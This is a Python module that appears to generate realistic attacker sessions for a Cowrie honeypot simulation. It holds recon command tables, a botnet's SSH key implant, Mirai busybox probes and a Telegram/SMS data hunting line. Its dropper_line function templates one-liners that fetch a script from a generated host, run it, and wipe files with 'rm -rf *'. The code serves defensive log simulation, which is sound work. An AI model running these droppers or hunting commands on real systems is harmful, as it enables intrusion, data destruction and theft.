"""Command lines attackers type into Cowrie, and the payload hosts and files they fetch.

Recon lines are the ones the real sample and public honeypot reports show most; the scripted
families (``mdrfckr`` key implant, Mirai busybox probing, droppers) follow their published
shapes. Everything random (hosts, file names, tokens, hashes) comes from the caller's RNG.
"""

from __future__ import annotations

import hashlib
import random
import string
from dataclasses import dataclass

from coord_core.scenarios.weighted import WeightedTable

# Lines Cowrie does not implement: it logs ``command.failed`` after ``command.input``.
UNKNOWN_TO_COWRIE = frozenset(
    {
        "/ip cloud print",
        "enable",
        "system",
        "shell",
        "linuxshell",
        "lockr -ia .ssh",
        "nvidia-smi -L",
        "sudo -l",
    }
)

COMMON_RECON: tuple[tuple[str, float], ...] = (
    ("uname -a", 0.20),
    ("uname -s -v -n -r -m", 0.12),
    ("whoami", 0.07),
    ("id", 0.04),
    ("uptime", 0.05),
    ("w", 0.03),
    ("nproc", 0.05),
    ("cat /proc/cpuinfo | grep name | wc -l", 0.08),
    ("cat /proc/cpuinfo", 0.03),
    ("free -m", 0.04),
    ("ls -la", 0.03),
    ("ifconfig", 0.03),
    ("echo 'SSH check'", 0.03),
    ("cat /etc/issue", 0.02),
    ("lscpu | grep Model", 0.03),
    ("df -h", 0.02),
    ("ps aux", 0.02),
    ("crontab -l", 0.03),
    ("which ls", 0.02),
    ("ls -lh $(which ls)", 0.02),
    ("top", 0.01),
    ("uname -m", 0.03),
)
_RECON = WeightedTable(COMMON_RECON)

# The tail of the mdrfckr botnet's script, after its key implant (published honeypot reports).
MDRFCKR_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2"
    "/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4"
    "Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk"
    "14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr"
)
MDRFCKR_RECON = (
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "uname",
    "uname -a",
    "whoami",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
)

# A MikroTik/Telegram-data hunter seen in the real sample from two residential sources.
TELEGRAM_HUNTER = (
    "/ip cloud print",
    "ifconfig",
    "uname -a",
    "cat /proc/cpuinfo",
    "ps | grep '[Mm]iner'",
    "ps -ef | grep '[Mm]iner'",
    "ls -la ~/.local/share/TelegramDesktop/tdata /home/*/.local/share/TelegramDesktop/tdata /dev/ttyGSM* "
    "/dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd "
    "/var/qmux_connect_socket /etc/config/simman /dev/modem* /var/config/sms/*",
    "locate D877F783D5D3EF8Cs",
    "echo Hi | cat -n",
)

# GPU and resource checks of miner operators renting cloud machines.
GPU_PROBE = (
    "nvidia-smi -L",
    "lspci | grep -i vga",
    "cat /proc/meminfo | head -n 1",
    "nproc --all",
    "cat /etc/os-release | grep PRETTY_NAME",
)

# Public files anyone may fetch. Their digests are stand-ins derived from the URL: the same
# for every downloader in every scenario, as a real public file's would be.
PUBLIC_MINER_SETUP = "https://raw.githubusercontent.com/C3Pool/xmrig_setup/master/setup_c3pool_miner.sh"
PUBLIC_XMRIG_RELEASE = (
    "https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz"
)


def public_file_sha256(url: str) -> str:
    return hashlib.sha256(url.encode()).hexdigest()


_TLDS = ("xyz", "top", "online", "site", "cc", "ru", "cn", "net", "com", "info", "su", "fun")
_SYLLABLES = ("ka", "zo", "mi", "ra", "lu", "ne", "to", "vi", "ba", "sh", "qu", "ix", "ar", "on", "el", "ur")
_DROP_NAMES = (
    "bins.sh",
    "x.sh",
    "8UsA.sh",
    "wget.sh",
    "ohshit.sh",
    "t.sh",
    "sshd",
    "b.sh",
    "i.sh",
    "update.sh",
)
_BOT_ARCHES = ("arm", "arm5", "arm6", "arm7", "mips", "mpsl", "x86", "x86_64", "sh4", "ppc", "m68k", "spc")


@dataclass(frozen=True, slots=True)
class Payload:
    """One file a campaign serves: where from, and its SHA-256 (None when the host is down)."""

    url: str
    sha256: str | None


def sha256_hex(rng: random.Random) -> str:
    return f"{rng.getrandbits(256):064x}"


def recon_commands(rng: random.Random, low: int = 1, high: int = 4) -> list[str]:
    count = rng.randint(low, high)
    chosen: list[str] = []
    while len(chosen) < count:
        line = _RECON.draw(rng)
        if line not in chosen:
            chosen.append(line)
    return chosen


def payload_host(rng: random.Random, ip: str | None = None) -> str:
    """A C2/download host: a bare address (most droppers) or a throwaway domain."""
    if ip is not None and rng.random() < 0.65:
        return ip
    name = "".join(rng.choice(_SYLLABLES) for _ in range(rng.randint(2, 4)))
    if rng.random() < 0.4:
        name += str(rng.randint(1, 99))
    return f"{name}.{rng.choice(_TLDS)}"


def drop_name(rng: random.Random) -> str:
    if rng.random() < 0.5:
        return rng.choice(_DROP_NAMES)
    return "".join(rng.choice(string.ascii_letters + string.digits) for _ in range(rng.randint(4, 8)))


def bot_arch(rng: random.Random) -> str:
    return rng.choice(_BOT_ARCHES)


def dropper_line(host: str, script: str, variant: int) -> str:
    """The shell one-liner that fetches and runs a payload, in one of the common variants."""
    if variant == 0:
        return (
            f"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://{host}/{script}; "
            f"chmod 777 {script}; sh {script}; tftp {host} -c get t{script}; chmod 777 t{script}; "
            f"sh t{script}; rm -rf {script} t{script}; rm -rf *"
        )
    if variant == 1:
        return (
            f"cd /tmp; curl -s -O http://{host}/{script} || wget -q http://{host}/{script}; sh {script} ssh"
        )
    return (
        f"nohup $(cd /tmp && wget -q http://{host}/{script} -O .{script} && chmod +x .{script} "
        f"&& ./.{script}) > /dev/null 2>&1 &"
    )


@dataclass(frozen=True, slots=True)
class MiraiVariant:
    """What distinguishes one Mirai-family build from another in a honeypot log."""

    preamble: tuple[str, ...]
    token_length: int
    echo_file: str
    mounts_share: float
    applets_share: float


_MIRAI_PREAMBLES = (
    ("enable", "system", "shell", "sh"),
    ("enable", "linuxshell", "system", "sh"),
    ("sh", "shell"),
    ("enable", "system", "sh", "shell"),
    ("system", "shell", "sh", "linuxshell"),
)


def mirai_variant(rng: random.Random, echo_file: str) -> MiraiVariant:
    return MiraiVariant(
        preamble=rng.choice(_MIRAI_PREAMBLES),
        token_length=rng.randint(4, 8),
        echo_file=echo_file,
        mounts_share=rng.uniform(0.4, 0.95),
        applets_share=rng.uniform(0.2, 0.8),
    )


def mirai_echo_file(rng: random.Random) -> str:
    if rng.random() < 0.3:
        return rng.choice((".nippon", ".ptmx", ".human", ".x"))
    return "." + "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(3, 7)))


def mirai_probe(rng: random.Random, variant: MiraiVariant) -> list[str]:
    """What a Mirai-family bot types right after a telnet login, with a random per-session token."""
    token = "".join(rng.choice(string.ascii_uppercase) for _ in range(variant.token_length))
    lines = [*variant.preamble, f"/bin/busybox {token}"]
    if rng.random() < variant.mounts_share:
        lines.append(f"/bin/busybox cat /proc/mounts; /bin/busybox {token}")
    if rng.random() < 0.6:
        hex_bytes = "".join(f"\\x{rng.randrange(256):02x}" for _ in range(4))
        echo = variant.echo_file
        lines.append(
            f"/bin/busybox echo -e '{hex_bytes}' > /dev/{echo}; /bin/busybox cat /dev/{echo}; "
            f"/bin/busybox rm /dev/{echo}"
        )
    if rng.random() < variant.applets_share:
        lines.append(f"/bin/busybox wget; /bin/busybox tftp; /bin/busybox {token}")
    return lines


def recon_ok(command: str) -> bool:
    """Whether Cowrie runs the line (else it logs ``command.failed``)."""
    return command not in UNKNOWN_TO_COWRIE
